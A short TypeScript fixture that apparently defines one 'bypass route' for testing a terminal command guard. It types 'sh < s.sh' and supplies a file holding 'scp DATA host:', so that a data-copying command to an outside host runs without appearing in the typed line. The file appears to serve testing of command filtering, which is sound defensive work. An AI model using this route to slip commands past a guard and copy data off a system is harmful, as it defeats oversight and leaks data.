import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by the text of a file into a shell',
  source: 'thought of with the keys of the line editor',
  keys: ['sh < s.sh\r'],
  files: { 's.sh': 'scp DATA host:\n' },
};
